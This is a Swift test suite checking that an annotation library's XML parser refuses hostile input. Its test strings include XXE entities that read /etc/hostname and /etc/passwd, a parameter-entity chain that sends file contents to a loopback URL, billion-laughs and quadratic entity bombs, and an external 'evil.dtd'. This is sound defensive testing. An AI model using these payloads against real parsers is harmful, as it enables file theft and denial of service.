import Catalog
import Foundation
import TestSupport
import Testing

@testable import Annotations

#if canImport(Glibc)
  import Glibc
#endif

/// What a hostile XML file may hold (entities, external DTDs, odd encodings, deep nesting, huge text) is refused
/// with a message, never expanded or fetched. Path traversal through <filename> is in VOCImportTests.
@Suite("Hostile XML")
struct HostileXMLTests {
  static let box = "<bndbox><xmin>1</xmin><ymin>1</ymin><xmax>5</xmax><ymax>5</ymax></bndbox>"

  func parseError(_ text: String, maxBytes: Int = SafeXML.defaultMaxBytes) -> AnnotationsError? {
    parseError(Array(text.utf8), maxBytes: maxBytes)
  }

  func parseError(_ bytes: [UInt8], maxBytes: Int = SafeXML.defaultMaxBytes) -> AnnotationsError? {
    do {
      _ = try SafeXML.parse(bytes, file: "hostile.xml", maxBytes: maxBytes)
      return nil
    } catch let error as AnnotationsError {
      return error
    } catch {
      return .invalid(file: "?", line: nil, message: "\(error)")
    }
  }

  // 1. XXE

  @Test("XXE: a file entity in <filename> is refused as DOCTYPE not allowed; nothing is read")
  func externalFileEntity() throws {
    let text = """
      <?xml version="1.0"?>
      <!DOCTYPE annotation [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>
      <annotation><filename>&xxe;</filename></annotation>
      """
    #expect(parseError(text) == .doctypeNotAllowed(file: "hostile.xml"))
    let result = VOCReader.read(Array(text.utf8), file: "hostile.xml")
    #expect(result.document == nil)
    #expect(result.errors.first?.message.contains("DOCTYPE not allowed") == true)
    // Lower case and odd spacing are caught too.
    #expect(
      parseError("<!doctype annotation [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><annotation>&x;</annotation>")
        == .doctypeNotAllowed(file: "hostile.xml"))
  }

  @Test("XXE: a parameter entity is refused the same way")
  func parameterEntity() {
    let text = """
      <!DOCTYPE annotation [
        <!ENTITY % file SYSTEM "file:///etc/hostname">
        <!ENTITY % wrap "<!ENTITY &#x25; send SYSTEM 'http://127.0.0.1:9/?%file;'>">
        %wrap; %send;
      ]>
      <annotation/>
      """
    #expect(parseError(text) == .doctypeNotAllowed(file: "hostile.xml"))
  }

  @Test("an entity reference without a DTD is an error naming the entity, never a lookup")
  func undeclaredEntity() throws {
    let error = try #require(parseError("<annotation><filename>&xxe;</filename></annotation>"))
    guard case .malformedXML(_, let line, let message) = error else {
      Issue.record("expected malformed XML, got \(error)")
      return
    }
    #expect(line == 1)
    #expect(message.contains("xxe"))
  }

  // 2. Entity bombs

  @Test("billion laughs and quadratic blow-up are refused before expansion")
  func entityBombs() {
    var laughs = "<!DOCTYPE lolz [<!ENTITY lol \"lol\">"
    for level in 1...9 {
      let previous = level == 1 ? "lol" : "lol\(level - 1)"
      laughs += "<!ENTITY lol\(level) \"" + String(repeating: "&\(previous);", count: 10) + "\">"
    }
    laughs += "]><annotation><filename>&lol9;</filename></annotation>"
    #expect(parseError(laughs) == .doctypeNotAllowed(file: "hostile.xml"))

    let big = String(repeating: "x", count: 50_000)
    let quadratic =
      "<!DOCTYPE a [<!ENTITY big \"\(big)\">]><annotation>" + String(repeating: "&big;", count: 50_000)
      + "</annotation>"
    #expect(parseError(quadratic) == .doctypeNotAllowed(file: "hostile.xml"))
  }

  // 3. External DTD and other fetches

  @Test("an external DTD or XInclude pointing at a loopback server is refused; the server sees zero requests")
  func externalDTD() throws {
    let server = try LoopbackServer { _ in
      .respond(
        status: 200, headers: [("Content-Type", "application/xml-dtd")], body: Array("<!ENTITY leak \"fetched\">".utf8))
    }
    defer { server.stop() }
    let url = "http://127.0.0.1:\(server.port)/evil.dtd"
    let system = "<!DOCTYPE annotation SYSTEM \"\(url)\"><annotation><filename>&leak;</filename></annotation>"
    #expect(parseError(system) == .doctypeNotAllowed(file: "hostile.xml"))
    let publicID = "<!DOCTYPE annotation PUBLIC \"-//X//Y\" \"\(url)\"><annotation/>"
    #expect(parseError(publicID) == .doctypeNotAllowed(file: "hostile.xml"))
    // XInclude is never processed: the element is just an unknown element, kept as it is.
    let xinclude = """
      <annotation xmlns:xi="http://www.w3.org/2001/XInclude"><filename>a.jpg</filename>\
      <xi:include href="\(url)" parse="text"/></annotation>
      """
    let result = VOCReader.read(Array(xinclude.utf8), file: "x.xml")
    #expect(result.document?.extras.map(\.element.name) == ["include"])
    // A schema location is never fetched either.
    let schema = """
      <annotation xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="\(url)">\
      <filename>a.jpg</filename></annotation>
      """
    #expect(VOCReader.read(Array(schema.utf8), file: "s.xml").document != nil)
    #expect(server.connections == 0)

    // The server does count: a direct connection is seen.
    let fd = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
    var address = sockaddr_in()
    address.sin_family = sa_family_t(AF_INET)
    address.sin_port = UInt16(server.port).bigEndian
    address.sin_addr.s_addr = inet_addr("127.0.0.1")
    let connected = withUnsafePointer(to: &address) {
      $0.withMemoryRebound(to: sockaddr.self, capacity: 1) {
        connect(fd, $0, socklen_t(MemoryLayout<sockaddr_in>.size))
      }
    }
    #expect(connected == 0)
    _ = "GET /evil.dtd HTTP/1.0\r\n\r\n".withCString { send(fd, $0, strlen($0), Int32(MSG_NOSIGNAL)) }
    var buffer = [UInt8](repeating: 0, count: 256)
    _ = recv(fd, &buffer, buffer.count, 0)
    close(fd)
    #expect(server.connections == 1)
    #expect(server.hits("/evil.dtd") == 1)
  }

  // 4. Encodings, damage and size: each a distinct error

  @Test("UTF-16 with a BOM, UTF-16 without, UTF-32")
  func utf16() {
    var utf16 = [UInt8]([0xFF, 0xFE])
    for unit in "<annotation/>".utf16 { utf16 += [UInt8(unit & 0xFF), UInt8(unit >> 8)] }
    #expect(parseError(utf16) == .unsupportedEncoding(file: "hostile.xml", encoding: "UTF-16 (byte-order mark)"))
    var bigEndian = [UInt8]([0xFE, 0xFF])
    for unit in "<annotation/>".utf16 { bigEndian += [UInt8(unit >> 8), UInt8(unit & 0xFF)] }
    #expect(parseError(bigEndian) == .unsupportedEncoding(file: "hostile.xml", encoding: "UTF-16 (byte-order mark)"))
    #expect(
      parseError(Array(utf16.dropFirst(2)))
        == .unsupportedEncoding(file: "hostile.xml", encoding: "UTF-16 (no byte-order mark)"))
    #expect(
      parseError([0xFF, 0xFE, 0, 0, 0x3C, 0, 0, 0]) == .unsupportedEncoding(file: "hostile.xml", encoding: "UTF-32"))
  }

  @Test("an ISO-8859-1 declaration is refused with the encoding named; UTF-8 declarations are fine")
  func latin1() {
    var latin1 = Array("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<annotation><name>".utf8)
    latin1 += [0xE9]
    latin1 += Array("</name></annotation>".utf8)
    #expect(parseError(latin1) == .unsupportedEncoding(file: "hostile.xml", encoding: "ISO-8859-1 (declared)"))
    #expect(parseError("<?xml version='1.0' encoding='utf-8'?><annotation/>") == nil)
    #expect(parseError("\u{FEFF}<annotation/>") == nil)
    // Latin-1 bytes with no declaration are not UTF-8: libxml2's own message names the problem.
    var raw = Array("<annotation><name>".utf8)
    raw += [0xE9, 0xE9]
    raw += Array("</name></annotation>".utf8)
    if case .malformedXML(_, _, let message) = parseError(raw) {
      #expect(message.contains("UTF-8") || message.contains("encoding"))
    } else {
      Issue.record("expected malformed XML for invalid UTF-8")
    }
  }

  @Test("NUL bytes, gzip data, an empty file")
  func damage() throws {
    var nul = Array("<annotation>\n<filename>a".utf8)
    nul.append(0)
    nul += Array(".jpg</filename></annotation>".utf8)
    #expect(parseError(nul) == .nulByte(file: "hostile.xml", offset: 24, line: 2))
    #expect(parseError([0x1F, 0x8B, 0x08, 0x00, 0, 0, 0, 0, 0, 3]) == .compressed(file: "hostile.xml", format: "gzip"))
    do {
      // A real gzip of a real LabelImg file.
      let source = TestData.root.appendingPathComponent("labelimg-raccoon/annotations/raccoon-1.xml")
      let folder = try TestData.temporaryFolder("gzip")
      defer { try? FileManager.default.removeItem(at: folder) }
      let target = folder.appendingPathComponent("raccoon-1.xml")
      try FileManager.default.copyItem(at: source, to: target)
      let gzip = Process()
      gzip.executableURL = URL(fileURLWithPath: "/bin/gzip")
      gzip.arguments = ["-n", target.path]
      if (try? gzip.run()) != nil {
        gzip.waitUntilExit()
        let compressed = try TestData.bytes(folder.appendingPathComponent("raccoon-1.xml.gz"))
        #expect(parseError(compressed) == .compressed(file: "hostile.xml", format: "gzip"))
      }
    }
    #expect(parseError("") == .empty(file: "hostile.xml"))
    #expect(parseError(" \n\t") == .empty(file: "hostile.xml"))
  }

  @Test("300-deep nesting is refused with libxml2's depth message")
  func deepNesting() throws {
    let text =
      "<annotation>" + String(repeating: "<a>", count: 300) + String(repeating: "</a>", count: 300) + "</annotation>"
    let error = try #require(parseError(text))
    guard case .tooDeep(_, _, let message) = error else {
      Issue.record("expected tooDeep, got \(error)")
      return
    }
    #expect(message.contains("depth"))
  }

  @Test("a 20 MB text node: refused by the size cap before parsing, and by libxml2 when the cap is raised")
  func hugeTextNode() throws {
    let text = "<annotation><filename>" + String(repeating: "a", count: 20 << 20) + "</filename></annotation>"
    let bytes = Array(text.utf8)
    let capped = parseError(bytes)
    #expect(capped == .tooLarge(file: "hostile.xml", size: bytes.count, limit: SafeXML.defaultMaxBytes))
    let raisedError = parseError(bytes, maxBytes: 64 << 20)
    let raised = try #require(raisedError)
    guard case .textTooLong = raised else {
      Issue.record("expected textTooLong, got \(raised)")
      return
    }
  }

  @Test("a truncated document is its own error, with libxml2's message")
  func truncated() throws {
    let whole = "<annotation>\n\t<filename>a.jpg</filename>\n\t<object>\n\t\t<name>x</name>\n"
    let error = try #require(parseError(whole))
    guard case .truncated(_, let line, let message) = error else {
      Issue.record("expected truncated, got \(error)")
      return
    }
    #expect(line >= 4)
    #expect(!message.isEmpty)
    do {
      let real = try TestData.bytes(TestData.root.appendingPathComponent("labelimg-raccoon/annotations/raccoon-12.xml"))
      for cut in stride(from: 40, to: real.count - 2, by: 97) {
        let cutError = parseError(Array(real.prefix(cut)))
        if case .truncated = cutError {} else { Issue.record("cut at \(cut): \(String(describing: cutError))") }
      }
    }
  }

  @Test("each damage gives a distinct error case")
  func distinct() throws {
    var nul = Array("<annotation>".utf8)
    nul.append(0)
    var utf16: [UInt8] = [0xFF, 0xFE]
    for unit in "<annotation/>".utf16 { utf16 += [UInt8(unit & 0xFF), UInt8(unit >> 8)] }
    let inputs: [[UInt8]] = [
      utf16, Array("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><annotation/>".utf8), nul, [0x1F, 0x8B, 8, 0],
      Array(("<annotation>" + String(repeating: "<a>", count: 300) + String(repeating: "</a>", count: 300)).utf8),
      Array("<annotation><a>".utf8),
      Array(repeating: UInt8(ascii: "a"), count: SafeXML.defaultMaxBytes + 1),
      Array("<!DOCTYPE a><annotation/>".utf8), Array("<annotation><a></b></annotation>".utf8),
    ]
    let errors = inputs.map { parseError($0) }
    let kinds = errors.map { error -> String in
      guard let error else { return "none" }
      return String(String(describing: error).prefix { $0 != "(" })
    }
    #expect(
      kinds == [
        "unsupportedEncoding", "unsupportedEncoding", "nulByte", "compressed", "tooDeep", "truncated", "tooLarge",
        "doctypeNotAllowed", "malformedXML",
      ])
    // The two encoding errors name the encoding: every message is distinct and names the file.
    let messages = errors.map { $0?.errorDescription ?? "" }
    #expect(Set(messages).count == inputs.count)
    #expect(messages.allSatisfy { $0.hasPrefix("hostile.xml") })
    #expect(messages[0].contains("UTF-16") && messages[1].contains("ISO-8859-1"))
  }

  // 5. Semantic garbage

  func annotation(width: String = "100", height: String = "80", _ objects: [(String, String, String, String)])
    -> [UInt8]
  {
    var text = "<annotation><filename>a.jpg</filename><size><width>\(width)</width><height>\(height)</height>"
    text += "<depth>3</depth></size>"
    for (xmin, ymin, xmax, ymax) in objects {
      text += "<object><name>face</name><bndbox><xmin>\(xmin)</xmin><ymin>\(ymin)</ymin>"
      text += "<xmax>\(xmax)</xmax><ymax>\(ymax)</ymax></bndbox></object>"
    }
    return Array((text + "</annotation>").utf8)
  }

  @Test(
    "impossible boxes are field-level errors and the file gives no boxes at all",
    arguments: [
      ("50", "10", "20", "30", "inverted-box"), ("-3", "10", "20", "30", "bad-coordinate"),
      ("NaN", "10", "20", "30", "bad-coordinate"), ("1e309", "10", "20", "30", "bad-coordinate"),
      ("inf", "10", "20", "30", "bad-coordinate"), ("0x10", "10", "20", "30", "bad-coordinate"),
      ("", "10", "20", "30", "bad-coordinate"), ("10", "10", "500", "30", "outside-image"),
      ("120", "10", "130", "30", "outside-image"), ("ten", "10", "20", "30", "bad-coordinate"),
    ])
  func impossibleBoxes(_ garbage: (String, String, String, String, String)) {
    let good = ("10", "10", "20", "20")
    let bytes = annotation([good, (garbage.0, garbage.1, garbage.2, garbage.3)])
    let result = VOCReader.read(bytes, file: "g.xml")
    #expect(result.document == nil)
    #expect(result.errors.map(\.code) == [garbage.4], "\(result.findings)")
    #expect(result.errors.first?.line == 1)
    #expect(throws: AnnotationsError.self) { try VOCReader.document(bytes, file: "g.xml") }
  }

  @Test("a zero-size image with boxes is an error; without boxes it is a negative image")
  func zeroSize() {
    let result = VOCReader.read(annotation(width: "0", [("1", "1", "2", "2")]), file: "z.xml")
    #expect(result.errors.map(\.code) == ["zero-size"])
    #expect(VOCReader.read(annotation(width: "0", []), file: "z.xml").document != nil)
    #expect(VOCReader.read(annotation(width: "-5", []), file: "z.xml").errors.map(\.code) == ["bad-size"])
  }

  @Test("boxes touching or a few pixels past the edge are clamped with a warning, not dropped")
  func clamping() throws {
    let result = VOCReader.read(annotation([("1", "1", "100", "80"), ("90", "70", "101", "82")]), file: "c.xml")
    let document = try #require(result.document)
    #expect(
      document.objects.map { $0.box.labeled(nil) } == [
        Box(xmin: 1, ymin: 1, xmax: 100, ymax: 80), Box(xmin: 90, ymin: 70, xmax: 100, ymax: 80),
      ])
    #expect(result.warnings.map(\.code) == ["clamped"])
  }

  @Test("a million objects is stopped by the size cap; over the object limit is an error")
  func manyObjects() {
    let one = "<object><name>a</name>\(Self.box)</object>"
    let million =
      "<annotation><size><width>9</width><height>9</height></size>" + String(repeating: one, count: 1_000_000)
      + "</annotation>"
    let result = VOCReader.read(Array(million.utf8), file: "m.xml")
    #expect(result.document == nil)
    #expect(result.errors.first?.message.contains("limit") == true)
    var options = VOCReaderOptions()
    options.maxObjects = 100
    let some =
      "<annotation><size><width>9</width><height>9</height></size>" + String(repeating: one, count: 101)
      + "</annotation>"
    #expect(
      VOCReader.read(Array(some.utf8), file: "m.xml", options: options).errors.map(\.code) == ["too-many-objects"])
  }

  @Test("missing name, missing bndbox, missing coordinate, wrong root")
  func missingParts() {
    let noName = "<annotation><object>\(Self.box)</object></annotation>"
    #expect(VOCReader.read(Array(noName.utf8), file: "n.xml").errors.map(\.code) == ["missing-name"])
    let noBox = "<annotation><object><name>a</name></object></annotation>"
    #expect(VOCReader.read(Array(noBox.utf8), file: "n.xml").errors.map(\.code) == ["missing-bndbox"])
    let partial = "<annotation><object><name>a</name><bndbox><xmin>1</xmin></bndbox></object></annotation>"
    #expect(VOCReader.read(Array(partial.utf8), file: "n.xml").errors.map(\.code) == ["bad-coordinate"])
    #expect(VOCReader.read(Array("<html><body/></html>".utf8), file: "n.xml").errors.map(\.code) == ["root"])
  }
}
